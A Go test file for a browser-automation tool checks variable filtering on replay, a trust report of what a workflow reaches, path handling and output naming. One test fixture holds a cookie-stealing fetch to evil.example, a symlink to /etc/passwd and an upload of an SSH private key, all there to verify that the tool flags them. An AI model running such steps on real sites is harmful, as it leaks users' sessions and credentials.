package commands

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/tact-browser/tact/internal/workflow"
)

// A replay receives only the variables its workflow has: other
// TACT_VAR_* values and --var-file lines stay behind.
func TestReplayTakesOnlyItsVariables(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("TACT_HOME", t.TempDir())
	f := filepath.Join(dir, "flow.json")
	os.WriteFile(f, []byte(`{"version":2,"steps":[{"command":"open","args":{"url":"${PAGE}"}}]}`), 0o600)
	vf := filepath.Join(dir, "vars")
	os.WriteFile(vf, []byte("PAGE=from-file\nDB_PASSWORD=hunter2\n"), 0o600)
	c := &Replay{Workflow: f, VarFile: vf}
	if err := c.Prepare(dir, []string{"TACT_VAR_AWS_SECRET=s3cr3t", "TACT_VAR_PAGE=from-env", "HOME=/x"}, nil); err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(c.Var, []string{"PAGE=from-file"}) {
		t.Errorf("vars passed on: %q", c.Var)
	}
	c = &Replay{Workflow: f, Var: []string{"PAGE=given"}}
	if err := c.Prepare(dir, []string{"TACT_VAR_AWS_SECRET=s3cr3t", "TACT_VAR_PAGE=from-env"}, nil); err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(c.Var, []string{"PAGE=from-env", "PAGE=given"}) { // the later --var wins
		t.Errorf("vars passed on: %q", c.Var)
	}
}

// What trust lists: paths outside the folder (absolute, climbing out,
// through a link, from a variable), eval, sites, variables.
func TestReachOf(t *testing.T) {
	dir := t.TempDir()
	os.Symlink("/etc/passwd", filepath.Join(dir, "innocent.txt"))
	os.WriteFile(filepath.Join(dir, "in.txt"), []byte("x"), 0o644)
	w, err := workflow.Parse([]byte(`{"version":2,"steps":[
 {"command":"open","args":{"url":"https://a.example/x"}},
 {"command":"open","args":{"url":"https://a.example/y"}},
 {"command":"read","args":{"url":"${BASE}/z","as":"z"}},
 {"command":"upload","target":{"locators":["css=input"]},"args":{"files":["in.txt","innocent.txt","/home/u/.ssh/id_rsa","${F}"]}},
 {"command":"screenshot","args":{"file":"../out.png"}},
 {"command":"eval","args":{"expr":"fetch('https://evil.example/'+document.cookie)"}}
]}`))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range reachOf(w, dir) {
		got = append(got, r.String())
	}
	text := strings.Join(got, "\n")
	for _, want := range []string{
		"step 1 opens https://a.example",
		"step 3 opens ${BASE}/z",
		"step 4 uploads the file in.txt (" + filepath.Join(dir, "in.txt") + ")\n",
		"step 4 uploads the file innocent.txt (" + filepath.Join(dir, "innocent.txt") + ") → /etc/passwd (outside the workflow's folder)",
		"step 4 uploads the file /home/u/.ssh/id_rsa (outside the workflow's folder)",
		"step 4 uploads the file ${F} (a variable decides where) (outside the workflow's folder)",
		"step 5 writes the file ../out.png",
		"step 6 runs JavaScript in the page: fetch('https://evil.example/'+document.cookie)",
		"takes the variable BASE",
	} {
		if !strings.Contains(text+"\n", want) {
			t.Errorf("reach lacks %q:\n%s", want, text)
		}
	}
	if strings.Count(text, "a.example") != 1 {
		t.Errorf("a site is listed once:\n%s", text)
	}
}

// Recorded paths inside the workflow's folder are stored relative to it.
func TestRelativePaths(t *testing.T) {
	dir := t.TempDir()
	w := &workflow.Workflow{Version: workflow.Version, Steps: []workflow.Step{
		{Command: "upload", Target: &workflow.Target{Locators: []string{"css=input"}}, Args: json.RawMessage(`{"files":["` + filepath.Join(dir, "a", "f.txt") + `","/elsewhere/g.txt"]}`)},
		{Command: "screenshot", Args: json.RawMessage(`{"file":"` + filepath.Join(dir, "shot.png") + `"}`)},
	}}
	relativePaths(w, dir)
	if got := string(w.Steps[0].Args); got != `{"files":["a/f.txt","/elsewhere/g.txt"]}` {
		t.Errorf("upload args %s", got)
	}
	if got := string(w.Steps[1].Args); got != `{"file":"shot.png"}` {
		t.Errorf("screenshot args %s", got)
	}
}

func TestOutputName(t *testing.T) {
	for _, c := range []struct {
		url, focus string
		taken      []string
		want       string
	}{
		{"https://www.npmjs.com/package/zustand", ".sidebar", nil, "zustand-sidebar"},
		{"http://127.0.0.1:8080/wf_item.html?id=2", "css=.price", nil, "wf-item-2-price"},
		{"https://example.com/", "", nil, "example-com"},
		{"http://127.0.0.1:8000/aclu/source.html", "", nil, "aclu"},
		{"about:blank", "", nil, "read"},
		{"https://example.com/", "", []string{"example-com", "example-com-2"}, "example-com-3"},
	} {
		if got := workflow.OutputName(c.url, c.focus, c.taken); got != c.want {
			t.Errorf("OutputName(%q, %q) = %q, want %q", c.url, c.focus, got, c.want)
		}
	}
}

// record list shows a name in both scopes, which one replay runs, and
// whether the project's is trusted.
func TestRecordListBothScopes(t *testing.T) {
	home, cwd := t.TempDir(), t.TempDir()
	t.Setenv("TACT_HOME", home)
	flow := []byte(`{"version":2,"steps":[{"command":"open","args":{"url":"https://example.com"}}]}`)
	os.MkdirAll(filepath.Join(cwd, ".tact", "workflows"), 0o755)
	os.MkdirAll(filepath.Join(home, "workflows"), 0o700)
	os.WriteFile(filepath.Join(cwd, ".tact", "workflows", "login.json"), flow, 0o644)
	os.WriteFile(filepath.Join(home, "workflows", "login.json"), flow, 0o600)
	env := fakeEnv(&fakeBrowser{})
	env.Globals.Cwd = cwd
	env.Recorder = NewRecorder(filepath.Join(home, "recording.json"))
	out, err := (&RecordList{}).Run(t.Context(), env)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(out.Text), "\n")
	if len(lines) != 2 || lines[0] != "login\tproject\t1 steps\tnot trusted; replay login runs this one" ||
		!strings.HasPrefix(lines[1], "login\tuser\t1 steps\tshadowed by the project's: replay "+filepath.Join(home, "workflows", "login.json")) {
		t.Errorf("record list:\n%s", out.Text)
	}
}
